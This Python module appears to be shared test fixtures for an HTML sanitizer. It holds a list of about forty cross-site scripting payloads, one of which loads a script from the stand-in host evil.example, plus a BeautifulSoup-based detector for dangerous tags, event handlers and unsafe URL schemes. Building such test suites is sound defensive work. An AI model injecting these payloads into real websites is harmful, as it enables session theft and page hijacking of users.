"""Hostile inputs a resident could type; shared by the sanitizer and the proposal tests."""

from bs4 import BeautifulSoup

XSS_PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(\'xss\')">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="JaVaScRiPt:alert(1)">clic</a>',
    '<a href="&#106;avascript:alert(1)">clic</a>',
    '<a href="jav&#x09;ascript:alert(1)">clic</a>',
    '<a href=" javascript:alert(1)">clic</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
    '<a href="vbscript:msgbox(1)">clic</a>',
    '<a href="https://example.org" onclick="alert(1)">clic</a>',
    '<a href="https://example.org" onmouseover=alert(1)>survol</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<a href="java\0script:alert(1)">nul</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

DANGEROUS_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "base",
    "form",
    "input",
    "link",
}
SAFE_SCHEMES = ("http://", "https://", "mailto:", "tel:", "sms:", "/", "#", "?")


def active_content(html: str, allow_static_scripts: bool = False) -> list[str]:
    """Everything in `html` that a browser could execute or load from a hostile address.

    Parsed as a browser would (not searched as text), so a harmless "javascript:" written
    as plain words is not reported, while any live tag, event handler or unsafe URL is.
    """
    problems = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if tag.name in DANGEROUS_TAGS:
            if tag.name == "script" and allow_static_scripts and tag.get("src", "").startswith("/static/"):
                continue
            if tag.name == "link" and allow_static_scripts and tag.get("href", "").startswith("/static/"):
                continue
            problems.append(f"<{tag.name}>")
        if tag.name == "meta" and tag.get("http-equiv"):
            problems.append("<meta http-equiv>")
        for attribute, value in tag.attrs.items():
            if attribute.lower().startswith("on"):
                problems.append(f"{tag.name}[{attribute}]")
            if attribute in {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "style"}:
                text = " ".join(value) if isinstance(value, list) else str(value)
                lowered = "".join(text.split()).lower()
                if attribute in {"srcdoc", "style"} or (
                    attribute in {"href", "src", "action", "formaction", "xlink:href"}
                    and not lowered.startswith(SAFE_SCHEMES)
                    and ":" in lowered.split("/", 1)[0]
                ):
                    problems.append(f"{tag.name}[{attribute}={text!r}]")
    return problems
